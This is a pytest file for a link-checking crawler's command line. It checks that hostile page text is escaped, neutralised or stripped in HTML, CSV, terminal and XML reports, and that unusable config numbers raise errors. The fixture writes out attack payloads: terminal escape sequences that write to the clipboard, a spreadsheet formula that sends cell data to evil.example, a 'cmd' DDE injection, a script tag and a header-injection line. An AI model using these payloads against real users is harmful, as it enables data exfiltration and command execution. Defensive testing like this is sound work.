"""Output safety in every format (issue 12, part 5): a server that puts terminal escapes,
markup, spreadsheet formulas and header breaks in what it sends (titles, anchor texts,
Location headers, fragments) gets them escaped in HTML (under a strict CSP), neutralised in
CSV, stripped from terminal and text output and well-formed in XML, while the JSON keeps them
exact; and config values that are no usable number are errors (exit 2, one line)."""
from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from click.testing import CliRunner
from lxml import html as lxml_html

import cli

from conftest import Route, run_cli

ESC = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;pwned\x07\x9b31m"   # OSC 52 clipboard, clear screen, retitle, C1 CSI
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TITLE = f"<script>alert(1)</script>{ESC}\r\nBcc: evil@example.com"
FORMATS = ["terminal", "json", "html", "markdown", "csv", "csv-links", "graphml", "gexf", "sarif", "junit"]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]")


@pytest.fixture(scope="module")
def hostile(module_site_server, tmp_path_factory):
    """One crawl of a server whose every text attacks some format; each format rendered from it."""
    tmp = tmp_path_factory.mktemp("output")
    home = (f"<html><head><title>{TITLE}</title></head><body><header>"
            f'<a href="https://twitter.com/evil">{FORMULA}</a></header><main>'
            f'<a href="/gone/">+cmd|\' /C calc\'!A0{ESC}</a> <a href="/moved">@SUM(1)</a>'
            f'<a href="/#x{ESC}">-2+3</a></main></body></html>')
    server = module_site_server(routes={
        "/": Route(body=home),
        "/gone/": Route(status=404, body="<html><body>gone</body></html>"),
        "/moved": Route(status=302, headers={"Location": "/gone/%1b[2J?\x1b[31m"}),
        "/robots.txt": Route(status=404),
    })
    db = tmp / "c.sqlite"
    audit = run_cli("audit", f"{server.url}/", "--db", db, "--no-sitemaps", "--no-check-social",
                    "--remap", r"^https://twitter\.com/ http://127.0.0.1:9/", "--format", "json", "-o", tmp / "a.json")
    assert audit.exit_code == 1, audit.stderr
    texts = {}
    for fmt in FORMATS:  # rendered in this process (the crawl above ran the real command line)
        out = tmp / f"report.{fmt}"
        result = CliRunner().invoke(cli.main, ["report", "--db", str(db), "--format", fmt, "-o", str(out)])
        assert result.exit_code == 1, (fmt, result.output, result.exception)
        assert not CONTROL.search(result.stderr), fmt
        with open(out, encoding="utf-8", newline="") as fh:
            texts[fmt] = fh.read()
    terminal = run_cli("report", "--db", db)  # to the terminal (stdout) of a real process
    texts["stdout"] = terminal.stdout
    return texts


def test_json_keeps_crawled_text_exact(hostile):
    report = json.loads(hostile["json"])
    home = [p for p in report["pages"] if p["url"].endswith("/") and p["title"]][0]
    assert home["title"] == " ".join(TITLE.split())  # as a browser reads a title: whitespace collapsed
    assert "\x1b]52;c;" in home["title"]
    assert FORMULA in [link["text"] for link in report["links"]]


@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "json"] + ["stdout"])
def test_no_control_character_reaches_any_other_format(hostile, fmt):
    text = hostile[fmt]
    if fmt in ("csv", "csv-links"):
        text = text.replace("\r\n", "\n")  # the CSV line ends
    assert not CONTROL.search(text), (fmt, CONTROL.search(text))
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


@pytest.mark.parametrize("fmt", ["terminal", "stdout"])
def test_the_terminal_shows_escapes_as_text(hostile, fmt):
    assert "\\x1b]52;c;" in hostile[fmt]  # the attack is shown, not run


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "sarif", "junit"])
def test_structured_formats_stay_well_formed(hostile, fmt):
    if fmt == "sarif":
        json.loads(hostile[fmt])
    else:
        ET.fromstring(hostile[fmt].encode("utf-8"))


def test_html_escapes_and_runs_nothing(hostile):
    doc = lxml_html.fromstring(hostile["html"])
    assert doc.xpath("//script") == []
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0]
    assert "<script>alert(1)</script>" not in hostile["html"]
    assert not doc.xpath("//*[@onerror or @onload or @onclick]")


@pytest.mark.parametrize("fmt", ["csv", "csv-links"])
def test_csv_cells_cannot_be_formulas(hostile, fmt):
    rows = list(csv.reader(io.StringIO(hostile[fmt])))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, cell)
    assert any(cell == "'" + FORMULA for row in rows for cell in row) or fmt == "csv"


@pytest.mark.parametrize("toml, message", [
    ("timeout = nan", "--timeout must be a number > 0, got nan"),
    ("timeout = inf", "--timeout must be a number > 0, got inf"),
    ("max_size = -inf", "--max-size must be a number > 0, got -inf"),
    ("max_size = 1e-9", "--max-size must be between 0.001 and 1048576, got 1e-09"),  # not "no cap at all"
    ("max_size = 1e308", "--max-size must be between 0.001 and 1048576, got 1e+308"),
    ("timeout = 1e9", "--timeout must be between 0 and 86400, got 1000000000.0"),
    ("accept = [700]", "--accept takes HTTP status codes (100 to 599), got 700"),
    ("accept = [\"99,200\"]", "--accept takes HTTP status codes (100 to 599), got 99"),
])
def test_config_values_that_are_no_usable_number_are_errors(tmp_path, toml, message):
    config = tmp_path / "funnel.toml"
    config.write_text(f'targets = ["http://127.0.0.1:9/"]\n{toml}\n')
    result = CliRunner().invoke(cli.main, ["audit", "--config", str(config), "--db", str(tmp_path / "c.sqlite")])
    assert result.exit_code == 2
    assert result.stderr == f"funnelcheck: error: {message}\n"
    assert not (tmp_path / "c.sqlite").exists()


@pytest.mark.parametrize("args, message", [
    (["--timeout", "nan"], "--timeout must be a number > 0, got nan"),
    (["--max-size", "inf"], "--max-size must be a number > 0, got inf"),
    (["--accept", "200,1000"], "--accept takes HTTP status codes (100 to 599), got 1000"),
])
def test_command_line_values_that_are_no_usable_number_are_errors(tmp_path, args, message):
    result = CliRunner().invoke(cli.main, ["audit", "http://127.0.0.1:9/", *args, "--db", str(tmp_path / "c.sqlite")])
    assert (result.exit_code, result.stderr) == (2, f"funnelcheck: error: {message}\n")


@pytest.mark.parametrize("args, message", [
    (["--concurrency", "0"], "Invalid value for '--concurrency': 0 is not in the range x>=1."),
    (["--bogus"], "No such option '--bogus'."),
])
def test_a_usage_error_is_one_line_too(tmp_path, args, message):
    result = run_cli("audit", "http://127.0.0.1:9/", *args, "--db", tmp_path / "c.sqlite")
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith(f"funnelcheck: error: {message}")
    assert result.stderr.endswith(" (see funnelcheck audit --help)\n") and result.stderr.count("\n") == 1
